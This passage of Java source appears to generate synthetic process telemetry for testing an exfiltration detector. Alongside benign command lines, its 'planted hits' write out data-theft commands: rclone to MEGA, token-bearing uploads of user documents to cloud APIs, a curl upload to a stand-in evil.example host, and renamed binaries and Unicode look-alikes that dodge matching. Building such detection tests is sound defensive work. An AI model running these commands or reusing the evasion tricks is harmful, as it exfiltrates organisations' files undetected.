                    "rundll32.exe AppXDeploymentExtensions.OneCore.dll,ShellRefresh",
                }));
                parent("svchost.exe", "services.exe");
                break;
            case SMALL_TOOLS: {
                String c = pick(r, SMALL_TOOLS_CMDS);
                String file = c.substring(0, c.indexOf(' '));
                image(file, "C:\\Windows\\System32\\" + file);
                cmd.append("C:\\Windows\\system32\\").append(c);
                parent("cmd.exe", "explorer.exe");
                initCmd.append("\"C:\\Windows\\system32\\cmd.exe\"");
                hasInitCmd = true;
                break;
            }
            case GIT:
                image("git.exe", "C:\\Program Files\\Git\\mingw64\\bin\\git.exe");
                cmd.append("\"C:\\Program Files\\Git\\cmd\\git.exe\" ").append(pick(r, new String[] {
                    "fetch --progress --prune origin", "status --porcelain=v2 --branch", "pull --rebase origin main",
                    "-c credential.helper= -c core.quotepath=false -c log.showSignature=false log --format=%H%n%P -n 50",
                    "submodule update --init --recursive", "rev-parse --abbrev-ref HEAD",
                }));
                parent(dev.role == Fleet.Role.BUILD ? "Agent.Worker.exe" : "Code.exe", dev.role == Fleet.Role.BUILD
                        ? "Agent.Listener.exe" : "explorer.exe");
                break;
            case VSCODE:
                image("Code.exe", "C:\\Users\\" + p + "\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe");
                chromium("\"C:\\Users\\" + p + "\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\"");
                parent("Code.exe", "explorer.exe");
                break;
            case PYTHON_WIN:
                image("python.exe", "C:\\Users\\" + p + "\\AppData\\Local\\Programs\\Python\\Python312\\python.exe");
                cmd.append("\"C:\\Users\\").append(p).append("\\AppData\\Local\\Programs\\Python\\Python312\\python.exe\" ")
                        .append(pick(r, new String[] {
                            "-m pip install --upgrade requests==2.32.3 urllib3",
                            "manage.py runserver 0.0.0.0:8000 --noreload",
                            "-m pytest tests/unit -q --maxfail=1",
                            "C:\\Users\\" + p + "\\source\\repos\\" + pick(r, PROJECTS) + "\\scripts\\build_docs.py --out docs\\_build",
                            "-m jupyter lab --no-browser --port=8888",
                        }));
                parent("cmd.exe", "explorer.exe");
                break;
            case CURL_WIN:
                image("curl.exe", "C:\\Windows\\System32\\curl.exe");
                cmd.append("curl.exe -sSL -o C:\\Users\\").append(p).append("\\Downloads\\").append(pick(r, PROJECTS))
                        .append(".zip https://github.com/contoso/").append(pick(r, PROJECTS)).append("/releases/download/v")
                        .append(1 + r.nextInt(5)).append('.').append(r.nextInt(20)).append('.').append(r.nextInt(10))
                        .append("/release.zip");
                parent("powershell.exe", "explorer.exe");
                break;
            case JAVA_WIN:
                image("java.exe", "C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.12.7-hotspot\\bin\\java.exe");
                cmd.append("\"C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.12.7-hotspot\\bin\\java.exe\" -Xmx2g")
                        .append(" -Dfile.encoding=UTF-8 -jar C:\\Tools\\").append(pick(r, PROJECTS)).append("\\app.jar")
                        .append(" --spring.config.location=C:\\Tools\\config\\application.yml");
                parent("cmd.exe", "services.exe");
                break;
            case ROBOCOPY:
                image("Robocopy.exe", "C:\\Windows\\System32\\Robocopy.exe");
                cmd.append("robocopy.exe \"D:\\Projects\\").append(pick(r, PROJECTS)).append("\" \"\\\\")
                        .append(pick(r, FILE_SERVERS)).append("\\").append(pick(r, SHARES)).append("\\")
                        .append(dev.user.login).append("\" /MIR /R:2 /W:5 /NP /LOG:C:\\Logs\\robocopy.log");
                parent("cmd.exe", "svchost.exe");
                break;
            case W3WP:
                image("w3wp.exe", "C:\\Windows\\System32\\inetsrv\\w3wp.exe");
                cmd.append("c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"").append(pick(r, PROJECTS))
                        .append("\" -v \"v4.0\" -l \"webengine4.dll\" -a \\\\.\\pipe\\iisipm");
                Row.guid(cmd, r);
                cmd.append(" -h \"C:\\inetpub\\temp\\apppools\\AppPool\\AppPool.config\" -w \"\" -m 0 -t 20 -ta 0");
                account = Fleet.NETWORK_SERVICE;
                accountDomain = "IIS APPPOOL";
                parent("svchost.exe", "services.exe");
                break;
            case SQL:
                image("sqlcmd.exe", "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE");
                cmd.append("SQLCMD.EXE -S localhost -E -Q \"EXEC dbo.DatabaseBackup @Databases = 'USER_DATABASES',")
                        .append(" @Directory = N'D:\\SQLBackups', @BackupType = 'FULL', @Verify = 'Y', @CleanupTime = 48\" -b");
                parent("SQLAGENT.EXE", "services.exe");
                break;
            case MSBUILD:
                image("MSBuild.exe", "C:\\Program Files\\Microsoft Visual Studio\\2022\\BuildTools\\MSBuild\\Current\\Bin\\amd64\\MSBuild.exe");
                cmd.append("\"C:\\Program Files\\Microsoft Visual Studio\\2022\\BuildTools\\MSBuild\\Current\\Bin\\amd64\\")
                        .append("MSBuild.exe\" D:\\a\\").append(1 + r.nextInt(9)).append("\\s\\src\\").append(pick(r, PROJECTS))
                        .append(".sln /nologo /nr:false /p:Configuration=Release /p:Platform=\"Any CPU\" /m /v:minimal");
                parent("Agent.Worker.exe", "Agent.Listener.exe");
                break;
            case BACKUP_AGENT:
                image("VeeamAgent.exe", "C:\\Program Files (x86)\\Veeam\\Backup Transport\\x64\\VeeamAgent.exe");
                cmd.append("\"C:\\Program Files (x86)\\Veeam\\Backup Transport\\x64\\VeeamAgent.exe\" -l startAgent")
                        .append(" -p 2500:3300 -s -i ").append(r.nextInt(100000));
                account = Fleet.SYSTEM;
                accountDomain = "NT AUTHORITY";
                parent("VeeamTransportSvc.exe", "services.exe");
                break;
            case LX_SHELL:
                image("bash", "/usr/bin/bash");
                cmd.append(pick(r, new String[] {
                    "/bin/bash /usr/local/bin/healthcheck.sh --timeout 30 --endpoint http://localhost:8080/health",
                    "bash -c \"find /var/log/app -name '*.log' -mtime +7 -delete\"",
                    "/bin/sh -c \"test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily\"",
                    "bash /opt/deploy/release.sh --env production --tag " + (100 + r.nextInt(900)),
                    "/bin/sh -c \"df -h / /var /srv | tail -n +2 | awk '{print $5}'\"",
                }));
                parent("cron", "systemd");
                break;
            case LX_PYTHON:
                image("python3", "/usr/bin/python3.12");
                cmd.append("/usr/bin/python3 ").append(pick(r, new String[] {
                    "/opt/worker/worker.py --queue ingest --concurrency 4 --log-level INFO",
                    "-m http.server 8000 --bind 127.0.0.1",
                    "/usr/local/bin/ansible-playbook -i inventory/prod site.yml --limit web --check",
                    "/srv/etl/jobs/load_orders.py --date 2026-11-19 --batch-size 5000",
                    "-m pip install --user --upgrade pip setuptools wheel",
                }));
                parent("bash", "sshd");
                break;
            case LX_JAVA:
                image("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java");
                cmd.append("/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Xms512m -Xmx4g -XX:+UseG1GC")
                        .append(" -Dspring.profiles.active=prod -Dlogging.config=/etc/").append(pick(r, PROJECTS))
                        .append("/logback.xml -jar /opt/").append(pick(r, PROJECTS)).append("/app.jar");
                parent("systemd", null);
                break;
            case LX_DAEMON: {
                String c = pick(r, LX_DAEMONS);
                if (c.contains("%s")) {
                    tmp.setLength(0);
                    Row.hex(tmp, r, 64);
                    c = c.replace("%s", tmp);
                }
                int sp = c.indexOf(' ');
                String path = sp < 0 ? c : c.substring(0, sp);
                image(path.substring(path.lastIndexOf('/') + 1), path);
                cmd.append(c);
                account = Fleet.SYSTEM;
                accountDomain = dev.shortName;
                parent("systemd", null);
                break;
            }
            case LX_PACKAGES:
                image("apt-get", "/usr/bin/apt-get");
                cmd.append(pick(r, new String[] {
                    "/usr/bin/apt-get -y -q -o Dpkg::Options::=--force-confdef upgrade",
                    "apt-get install -y --no-install-recommends ca-certificates curl gnupg",
                    "/usr/bin/python3 /usr/bin/unattended-upgrade --download-only",
                }));
                parent("bash", "sudo");
                break;
            case LX_CURL:
                image("curl", "/usr/bin/curl");
                cmd.append(pick(r, new String[] {
                    "curl -fsSL https://packages.microsoft.com/keys/microsoft.asc -o /tmp/microsoft.asc",
                    "curl -s -o /dev/null -w %{http_code} http://localhost:8080/actuator/health",
                    "curl --retry 3 -sSf https://get.helm.sh/helm-v3.16.3-linux-amd64.tar.gz -o /tmp/helm.tgz",
                    "curl -H \"Accept: application/json\" https://api.github.com/repos/contoso/" + pick(r, PROJECTS) + "/releases/latest",
                }));
                parent("bash", "cron");
                break;
            case LX_NODE:
                image("node", "/usr/bin/node");
                cmd.append("/usr/bin/node /srv/").append(pick(r, PROJECTS)).append("/dist/server.js --port ")
                        .append(3000 + r.nextInt(100));
                parent("npm", "systemd");
                break;
            case MAC_SYSTEM:
                if (r.nextBoolean()) {
                    image("mdworker_shared", "/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared");
                    cmd.append("/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/")
                            .append("Support/mdworker_shared -s mdworker -c MDSImporterWorker -m com.apple.mdworker.shared");
                } else {
                    image("softwareupdated", "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated");
                    cmd.append("/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated");
                }
                parent("launchd", null);
                break;
            case MAC_CHROME:
                image("Google Chrome Helper (Renderer)", "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/131.0.6778.86/Helpers/Google Chrome Helper (Renderer).app/Contents/MacOS/Google Chrome Helper (Renderer)");
                chromium("/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/"
                        + "131.0.6778.86/Helpers/Google Chrome Helper (Renderer).app/Contents/MacOS/Google Chrome Helper (Renderer)");
                parent("Google Chrome", "launchd");
                break;
            case MAC_MAU:
                image("Microsoft Update Assistant", "/Library/Application Support/Microsoft/MAU2.0/Microsoft AutoUpdate.app/Contents/MacOS/Microsoft Update Assistant.app/Contents/MacOS/Microsoft Update Assistant");
                cmd.append("\"/Library/Application Support/Microsoft/MAU2.0/Microsoft AutoUpdate.app/Contents/MacOS/")
                        .append("Microsoft Update Assistant.app/Contents/MacOS/Microsoft Update Assistant\" --launchByAgent");
                parent("launchd", null);
                break;
            default: // MAC_SHELL
                image("zsh", "/bin/zsh");
                cmd.append(pick(r, new String[] {
                    "/bin/zsh -c \"brew update && brew upgrade --cask --greedy\"",
                    "/bin/zsh -l -c \"cd /Users/" + p + "/dev/" + pick(r, PROJECTS) + " && make test\"",
                    "/bin/zsh /Users/" + p + "/.oh-my-zsh/tools/check_for_upgrade.sh",
                }));
                parent("Terminal", "launchd");
        }
    }

    private void image(String file, String path) {
        fileName = file;
        folder.setLength(0);
        folder.append(path);
    }

    private void parent(String file, String grandParent) {
        initFile = file;
        initParent = grandParent;
    }

    /**
     * A Chromium child process: the long command lines that dominate real process tables. Optional
     * switches are added while the line stays within 400 characters.
     */
    private void chromium(String exe) {
        cmd.append(exe);
        tmp.setLength(0);
        tmp.append(" --field-trial-handle=").append(1800 + r.nextInt(400)).append(",i,");
        Row.hex(tmp, r, 16);
        tmp.append(',');
        Row.hex(tmp, r, 16);
        tmp.append(",262144 --variations-seed-version --mojo-platform-channel-handle=").append(1000 + r.nextInt(9000))
                .append(" /prefetch:").append(1 + r.nextInt(12));
        int budget = 400 - tmp.length();
        String[] switches;
        switch (r.nextInt(3)) {
            case 0:
                switches = new String[] {" --type=renderer", " --lang=en-US", " --renderer-client-id=" + (5 + r.nextInt(400)),
                    " --device-scale-factor=1", " --num-raster-threads=2", " --time-ticks-at-unix-epoch=-"
                        + (1731900000000000L + r.nextInt(99999999)), " --enable-main-frame-before-activation",
                    " --launch-time-ticks=" + (100000000L + r.nextInt(900000000)), " --string-annotations"};
                break;
            case 1:
                switches = new String[] {" --type=utility", " --utility-sub-type=network.mojom.NetworkService", " --lang=en-US",
                    " --service-sandbox-type=none"};
                break;
            default:
                switches = new String[] {" --type=gpu-process", " --no-pre-read-main-dll",
                    " --gpu-preferences=UAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAAAAAAAAAAAAAAAAAACAAAAAAAAAAAAAAAAAAAAEAAAAAAAAAAQAAAAAAAAAAgAAAAAAAAA"};
        }
        for (int i = 0; i < switches.length; i++) {
            String sw = switches[i];
            if ((i == 0 || r.nextInt(3) != 0) && cmd.length() + sw.length() <= budget) {
                cmd.append(sw);
            }
        }
        cmd.append(tmp);
    }

    private void brokers() {
        account = r.nextInt(3) == 0 ? Fleet.SYSTEM : account;
        if (account == Fleet.SYSTEM) {
            accountDomain = "NT AUTHORITY";
        }
        switch (r.nextInt(5)) {
            case 0:
                image("RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe");
                cmd.append("\"C:\\Windows\\System32\\RuntimeBroker.exe\" -Embedding");
                break;
            case 1:
                image("backgroundTaskHost.exe", "C:\\Windows\\System32\\backgroundTaskHost.exe");
                cmd.append("\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:")
                        .append(pick(r, new String[] {"App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
                            "BackgroundTaskHost.WebAccountProvider", "CortanaUI.AppX8z9r6jm96hw4bsbneegw0kyxx296wr9t.mca"}));
                break;
            case 2:
                image("dllhost.exe", "C:\\Windows\\System32\\dllhost.exe");
                cmd.append("C:\\Windows\\system32\\DllHost.exe /Processid:{");
                Row.upperHex(cmd, r, 8);
                cmd.append("-");
                Row.upperHex(cmd, r, 4);
                cmd.append("-");
                Row.upperHex(cmd, r, 4);
                cmd.append("-");
                Row.upperHex(cmd, r, 4);
                cmd.append("-");
                Row.upperHex(cmd, r, 12);
                cmd.append("}");
                break;
            case 3:
                image("WmiPrvSE.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
                cmd.append("C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding");
                break;
            default:
                image("taskhostw.exe", "C:\\Windows\\System32\\taskhostw.exe");
                cmd.append("C:\\Windows\\system32\\taskhostw.exe ").append(pick(r, new String[] {
                    "-RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", "-RegisterDevice -SettingChange"}));
        }
        parent("svchost.exe", "services.exe");
    }

    private void office(String p) {
        String[][] apps = {
            {"WINWORD.EXE", ".docx", "/n"}, {"EXCEL.EXE", ".xlsx", "/e"}, {"POWERPNT.EXE", ".pptx", "/n"},
            {"OUTLOOK.EXE", null, "/recycle"},
        };
        String[] a = apps[r.nextInt(apps.length)];
        image(a[0], "C:\\Program Files\\Microsoft Office\\root\\Office16\\" + a[0]);
        cmd.append("\"C:\\Program Files\\Microsoft Office\\root\\Office16\\").append(a[0]).append("\" ").append(a[2]);
        if (a[1] != null) {
            cmd.append(" \"C:\\Users\\").append(p).append(r.nextBoolean() ? "\\OneDrive - Contoso\\Documents\\" : "\\Desktop\\")
                    .append(pick(r, DOCS)).append(a[1]).append("\" /o \"\"");
        }
        parent("explorer.exe", "userinit.exe");
    }

    private void powershell(String p) {
        image("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
        switch (r.nextInt(6)) {
            case 0:
                cmd.append("\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -executionPolicy bypass")
                        .append(" -file  \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Content\\DetectionScripts\\");
                Row.guid(cmd, r);
                cmd.append("_1.ps1\" ");
                account = Fleet.SYSTEM;
                accountDomain = "NT AUTHORITY";
                parent("AgentExecutor.exe", "Microsoft.Management.Services.IntuneWindowsAgent.exe");
                break;
            case 1:
                cmd.append("powershell.exe -NoP -NonI -Command \"Get-CimInstance Win32_LogicalDisk | Select-Object DeviceID,")
                        .append("FreeSpace,Size | ConvertTo-Json -Compress\"");
                parent("svchost.exe", "services.exe");
                break;
            case 2:
                cmd.append("powershell.exe -ExecutionPolicy Bypass -Command \"Invoke-WebRequest -Uri https://aka.ms/")
                        .append(pick(r, new String[] {"installazurecliwindows", "vs/17/release/vs_buildtools.exe", "getwinget"}))
                        .append(" -OutFile C:\\Users\\").append(p).append("\\Downloads\\setup.exe -UseBasicParsing\"");
                parent("explorer.exe", "userinit.exe");
                break;
            case 3: // a multi-line command, as scheduled tasks and RMM tools produce
                cmd.append("powershell.exe -NoProfile -Command \"$ErrorActionPreference = 'Stop'\r\n")
                        .append("Get-ChildItem -Path 'C:\\Users\\").append(p).append("\\AppData\\Local\\Temp' -Recurse |")
                        .append(" Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-14) } | Remove-Item -Force\r\n\"");
                parent("svchost.exe", "services.exe");
                break;
            case 4:
                cmd.append("\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -WindowStyle Hidden -File")
                        .append(" \\\\corp.contoso.com\\NETLOGON\\").append(pick(r, new String[] {"MapDrives.ps1", "SetWallpaper.ps1", "Inventory.ps1"}));
                parent("gpscript.exe", "svchost.exe");
                break;
            default:
                cmd.append("powershell.exe -NoLogo -NoProfile -NonInteractive -Command \"& {Import-Module ")
                        .append("'C:\\Program Files\\WindowsPowerShell\\Modules\\PSWindowsUpdate\\2.2.1.5\\PSWindowsUpdate.psd1';")
                        .append(" Get-WindowsUpdate -MicrosoftUpdate -AcceptAll -IgnoreReboot}\"");
                account = Fleet.SYSTEM;
                accountDomain = "NT AUTHORITY";
                parent("svchost.exe", "services.exe");
        }
    }

    private void syncClient(String p) {
        switch (r.nextInt(3)) {
            case 0:
                image("OneDrive.exe", "C:\\Users\\" + p + "\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe");
                cmd.append("\"C:\\Users\\").append(p).append("\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" ")
                        .append(r.nextBoolean() ? "/background" : "/updateInstalled /background");
                break;
            case 1:
                image("GoogleDriveFS.exe", "C:\\Program Files\\Google\\Drive File Stream\\104.0.3.0\\GoogleDriveFS.exe");
                cmd.append("\"C:\\Program Files\\Google\\Drive File Stream\\104.0.3.0\\GoogleDriveFS.exe\" --startup_mode");
                break;
            default:
                image("Dropbox.exe", "C:\\Program Files (x86)\\Dropbox\\Client\\Dropbox.exe");
                cmd.append("\"C:\\Program Files (x86)\\Dropbox\\Client\\Dropbox.exe\" /systemstartup");
        }
        parent("explorer.exe", "userinit.exe");
    }

    // ---------------------------------------------------------------------------------------------
    // Planted hits: what the detection must report. Shapes follow published intrusions (Conti's
    // rclone to MEGA, Mustang Panda's curl to Dropbox, POLONIUM's OneDrive API), Atomic Red Team
    // tests, and the seed's documented false positives (CI uploads, backups, wget -t).

    private String user(Fleet.Device dev) {
        return dev.user.profile;
    }

    private String bucket() {
        return pick(r, BUCKET_WORDS) + "-" + pick(r, BUCKET_WORDS) + "-" + (10 + r.nextInt(990));
    }

    private String token() {
        tmp.setLength(0);
        Row.alnum(tmp, r, 24 + r.nextInt(40));
        return tmp.toString();
    }

    private int hit(Fleet.Device dev) {
        randomHashes = true;
        String p = user(dev);
        boolean unix = dev.os != Fleet.Os.WINDOWS;
        int k = r.nextInt(unix ? 8 : 22);
        if (unix) {
            k += 100;
        }
        switch (k) {
            case 0: { // Conti / Bazar: rclone to MEGA from a UNC share
                image("rclone.exe", pick(r, new String[] {"C:\\Users\\" + p + "\\AppData\\Local\\Temp\\rclone.exe",
                    "C:\\ProgramData\\rclone.exe", "C:\\PerfLogs\\rclone.exe"}));
                int streams = 1 + r.nextInt(12);
                cmd.append("rclone.exe copy --max-age 2y \"\\\\").append(pick(r, FILE_SERVERS)).append("\\")
                        .append(pick(r, SHARES)).append("\" ").append(r.nextBoolean() ? "Mega" : "mega").append(":")
                        .append(pick(r, new String[] {"DATA", "1", "backup", "fin"})).append(" -q --ignore-existing --auto-confirm")
                        .append(" --multi-thread-streams ").append(streams).append(" --transfers ").append(streams)
                        .append(" --bwlimit ").append(1 + r.nextInt(20)).append("M");
                parent("cmd.exe", r.nextBoolean() ? "rundll32.exe" : "explorer.exe");
                return CLOUD_SYNC_TOOL;
            }
            case 1: // AzCopy to an attacker's storage account (Storm-0501 shape)
                image("AzCopy.exe", "C:\\Users\\" + p + "\\Downloads\\azcopy_windows_amd64_10.27.1\\AzCopy.exe");
                cmd.append("AzCopy.exe copy \"D:\\Exports\\").append(pick(r, SHARES)).append("\" \"https://")
                        .append(pick(r, BUCKET_WORDS)).append(r.nextInt(1000)).append(".blob.core.windows.net/")
                        .append(pick(r, BUCKET_WORDS)).append("?sv=2023-11-03&ss=b&srt=co&sp=rwdlac&se=2026-12-01T00:00:00Z&sig=")
                        .append(token()).append("%3D\" --recursive --log-level=ERROR");
                parent("powershell.exe", "explorer.exe");
                return CLOUD_SYNC_TOOL;
            case 2: // aws cli backup (a documented false positive)
                image("aws.exe", "C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe");
                cmd.append("aws s3 cp D:\\SQLBackups\\").append(pick(r, PROJECTS)).append("_FULL.bak s3://").append(bucket())
                        .append("/sql/ --storage-class STANDARD_IA --only-show-errors");
                account = dev.user;
                parent("SQLAGENT.EXE", "services.exe");
                return CLOUD_SYNC_TOOL;
            case 3: // renamed rclone with an on-the-fly S3 remote (Elastic's investigation note)
                image("TrendFileSecurityCheck.exe", "C:\\Windows\\Temp\\TrendFileSecurityCheck.exe");
                cmd.append("TrendFileSecurityCheck.exe copy C:\\Users\\").append(p).append("\\Documents :s3,provider=AWS,env_auth=true:")
                        .append(bucket()).append(" --include \"*.{docx,xlsx,pdf}\" --transfers 16");
                parent("cmd.exe", "wmiprvse.exe");
                return CLOUD_SYNC_TOOL;
            case 4: // rclone_x64.exe: '_' separates terms, so FileName has "rclone"
                image("rclone_x64.exe", "C:\\Users\\" + p + "\\Downloads\\rclone_x64.exe");
                cmd.append("rclone_x64.exe sync \"C:\\Users\\").append(p).append("\\Documents\" remote:bkp-")
                        .append(r.nextInt(100)).append(" --fast-list");
                parent("explorer.exe", "userinit.exe");
                return CLOUD_SYNC_TOOL;
            case 5: // the needle is followed by a line break
                image("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
                cmd.append("powershell.exe -NoProfile -Command \"rclone copy\n'C:\\Users\\").append(p)
                        .append("\\Documents' 'archive:2026'\"");
                parent("explorer.exe", "userinit.exe");
                return CLOUD_SYNC_TOOL;
            case 6: // the needle ends the command line
                image("cmd.exe", "C:\\Windows\\System32\\cmd.exe");
                cmd.append("C:\\Windows\\System32\\cmd.exe /c start /min C:\\ProgramData\\sync\\run.cmd && rclone mount");
                parent("explorer.exe", "userinit.exe");
                return CLOUD_SYNC_TOOL;
            case 7: // a ':dropbox' remote
                image("cmd.exe", "C:\\Windows\\System32\\cmd.exe");
                cmd.append("cmd.exe /c C:\\ProgramData\\sync\\rc.exe copy \"C:\\Users\\").append(p)
                        .append("\\Documents\" remote:dropbox/").append(pick(r, BUCKET_WORDS));
                parent("wscript.exe", "explorer.exe");
                return CLOUD_SYNC_TOOL;
            case 8: // Mustang Panda: curl to the Dropbox API
                image("curl.exe", "C:\\Windows\\System32\\curl.exe");
                cmd.append("curl.exe -X POST https://content.dropboxapi.com/2/files/upload -H \"Authorization: Bearer ")
                        .append(token()).append("\" -H \"Dropbox-API-Arg: {\\\"path\\\":\\\"/").append(pick(r, BUCKET_WORDS))
                        .append(".rar\\\",\\\"mode\\\":\\\"add\\\"}\" -H \"Content-Type: application/octet-stream\"")
                        .append(" --data-binary @C:\\Users\\").append(p).append("\\AppData\\Local\\Temp\\")
                        .append(pick(r, BUCKET_WORDS)).append(".rar");
                parent("cmd.exe", "rundll32.exe");
                return CLOUD_API_UPLOAD;
            case 9: { // POLONIUM: PowerShell to actor-owned OneDrive
                String[] spellings = {"powershell.exe", "PowerShell.exe", "POWERSHELL.EXE"};
                image(pick(r, spellings), "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
                cmd.append(fileName).append(" -NoP -W Hidden -C \"Invoke-RestMethod -Uri 'https://graph.microsoft.com/v1.0/me/drive/root:/")
                        .append(pick(r, BUCKET_WORDS)).append("/").append(r.nextInt(10000)).append(".zip:/content' -Method Put")
                        .append(" -InFile 'C:\\Users\\").append(p).append("\\AppData\\Roaming\\").append(r.nextInt(10000))
                        .append(".zip' -Headers @{Authorization='Bearer ").append(token()).append("'}\"");
                parent("wscript.exe", "explorer.exe");
                return CLOUD_API_UPLOAD;
            }
            case 10: // 'dropbox.com' followed by '.': still has "dropbox.com" ('.' separates terms)
                image("curl.exe", "C:\\Windows\\System32\\curl.exe");
                cmd.append("curl.exe -s -T C:\\Users\\").append(p).append("\\AppData\\Local\\Temp\\a").append(r.nextInt(100))
                        .append(".7z https://dropbox.com.evil.example/put/").append(token());
                parent("cmd.exe", "explorer.exe");
                return CLOUD_API_UPLOAD;
            case 11: // WebClient upload of a file under an accented profile folder
                image("pwsh.exe", "C:\\Program Files\\PowerShell\\7\\pwsh.exe");
                cmd.append("\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -c \"(New-Object System.Net.WebClient).UploadFile(")
                        .append("'https://api.box.com/2.0/files/content', 'C:\\Users\\")
                        .append(pick(r, new String[] {"Jérôme", "Zoë.Lefèvre", "Müller.Jürgen", p}))
                        .append("\\Documents\\").append(pick(r, DOCS)).append(".pptx')\"");
                parent("explorer.exe", "userinit.exe");
                return CLOUD_API_UPLOAD;
            case 12: // 'ſ' (long s) folds to 's' per code point: in~ matches powershell.exe
                image("powerſhell.exe", "C:\\Users\\" + p + "\\AppData\\Local\\Temp\\powerſhell.exe");
                cmd.append("powerſhell.exe -c \"Invoke-WebRequest https://upload.box.com/api/2.0/files/content -Method Post")
                        .append(" -InFile C:\\Users\\").append(p).append("\\Desktop\\").append(pick(r, DOCS)).append(".zip\"");
                parent("cmd.exe", "explorer.exe");
                return CLOUD_API_UPLOAD;
            case 13: // a Python helper named put_file
                image("python.exe", "C:\\Python312\\python.exe");
                cmd.append("python.exe C:\\Tools\\put_file.py https://s3.amazonaws.com/").append(bucket()).append("/")
                        .append(r.nextInt(1000)).append(".zip C:\\Users\\").append(p).append("\\AppData\\Local\\Temp\\")
                        .append(r.nextInt(1000)).append(".zip");
                parent("cmd.exe", "explorer.exe");
                return CLOUD_API_UPLOAD;
            case 14: // rclone and a web upload in one PowerShell line: both process signals
                image("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
                cmd.append("powershell.exe -NoP -W Hidden -C \"rclone copy C:\\Users\\").append(p).append("\\Documents mega:loot;")
                        .append(" Invoke-WebRequest -Uri https://mega.nz/upload -Method POST -InFile C:\\Windows\\Temp\\")
                        .append(r.nextInt(1000)).append(".zip\"");
                parent("cmd.exe", "explorer.exe");
                return CLOUD_SYNC_TOOL | CLOUD_API_UPLOAD;
            case 15: // MEGA remote in the M04 shape, renamed binary
                image("svchost.exe", "C:\\Windows\\svchost.exe");
                cmd.append("svchost.exe --config svchost.conf --progress --no-check-certificate copy \"\\\\")
                        .append(pick(r, FILE_SERVERS)).append("\\C$\\").append(pick(r, SHARES)).append("\" MEGA:")
                        .append(pick(r, SHARES));
                account = Fleet.SYSTEM;
                accountDomain = "NT AUTHORITY";
                parent("cmd.exe", "services.exe");
                return CLOUD_SYNC_TOOL;
            case 16: // 'İ' (dotted capital I) folds to 'i': has "gsutil cp"
                image("cmd.exe", "C:\\Windows\\System32\\cmd.exe");
                cmd.append("cmd.exe /c gsutİl cp D:\\Exports\\").append(pick(r, PROJECTS)).append(".zip gs://").append(bucket());
                parent("powershell.exe", "explorer.exe");
                return CLOUD_SYNC_TOOL;
            case 17: // curl upload to Google Drive, indicator as a bare flag
                image("curl.exe", "C:\\Windows\\System32\\curl.exe");
                cmd.append("curl.exe --upload-file C:\\Users\\").append(p).append("\\Desktop\\").append(pick(r, DOCS))
                        .append(".xlsx \"https://www.googleapis.com/upload/drive/v3/files?uploadType=media\" -H \"Authorization: Bearer ")
                        .append(token()).append("\"");
                parent("cmd.exe", "explorer.exe");
                return CLOUD_API_UPLOAD;
            case 18: // azcopy verb from a quoted path: FileName decides
                image("azcopy.exe", "C:\\Tools\\azcopy\\azcopy.exe");
                cmd.append("\"C:\\Tools\\azcopy\\azcopy.exe\" sync \"\\\\").append(pick(r, FILE_SERVERS)).append("\\")
                        .append(pick(r, SHARES)).append("\" \"https://").append(pick(r, BUCKET_WORDS))
                        .append(".blob.core.windows.net/").append(pick(r, BUCKET_WORDS)).append("?").append(token())
                        .append("\" --delete-destination=true");
                parent("powershell.exe", "svchost.exe");
                return CLOUD_SYNC_TOOL;
            case 19: // an approved backup job under Program Files (a documented false positive)
                image("rclone.exe", "C:\\Program Files\\rclone\\rclone.exe");
                cmd.append("\"C:\\Program Files\\rclone\\rclone.exe\" sync D:\\SQLBackups b2:corp-sql-backups")
                        .append(" --config=\"C:\\Program Files\\rclone\\config\\rclone\\rclone.conf\"");
                account = dev.user;
                parent("svchost.exe", "services.exe");
                return CLOUD_SYNC_TOOL;
            case 20: // powershell WebClient to OneDrive consumer API
                image("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
                cmd.append("powershell.exe -enc none -c \"$wc = New-Object Net.WebClient; $wc.Headers.Add('Authorization','Bearer ")
                        .append(token()).append("'); $wc.UploadData('https://api.onedrive.com/v1.0/drive/root:/x/")
                        .append(r.nextInt(1000)).append(".bin:/content','PUT',[IO.File]::ReadAllBytes('C:\\Users\\").append(p)
                        .append("\\Documents\\").append(pick(r, DOCS)).append(".docx'))\"");
                parent("mshta.exe", "explorer.exe");
                return CLOUD_API_UPLOAD;
            case 21: // ſ in a sync-tool verb
